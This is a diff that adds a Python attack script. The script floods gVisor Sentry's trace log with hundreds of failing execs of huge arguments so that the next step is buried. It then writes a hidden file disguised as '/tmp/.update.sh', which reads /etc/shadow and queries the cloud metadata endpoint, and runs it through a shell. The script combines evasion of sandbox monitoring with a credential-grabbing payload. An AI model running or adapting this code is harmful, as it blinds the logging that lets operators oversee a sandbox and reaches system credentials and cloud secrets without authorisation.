@@ -1,0 +1,17 @@
+# Fill the kernel's trace with failing execs of long argv from a thread
+# (40 MiB of them on gVisor's Sentry log), then run the payload: a
+# credential read and the metadata service through a shell.
+import os, subprocess, threading
+arg = "A" * 100000
+def flood():
+    for i in range(400):
+        try:
+            os.execv("/nonexistent/x%d" % i, ["x", arg])
+        except OSError:
+            pass
+t = threading.Thread(target=flood)
+t.start()
+t.join()
+with open("/tmp/.update.sh", "w") as f:
+    f.write("cat /etc/shadow > /dev/null 2>&1\nenv curl -s -m 1 http://169.254.169.254/latest/meta-data/ || true\n")
+subprocess.run(["/bin/sh", "/tmp/.update.sh"])
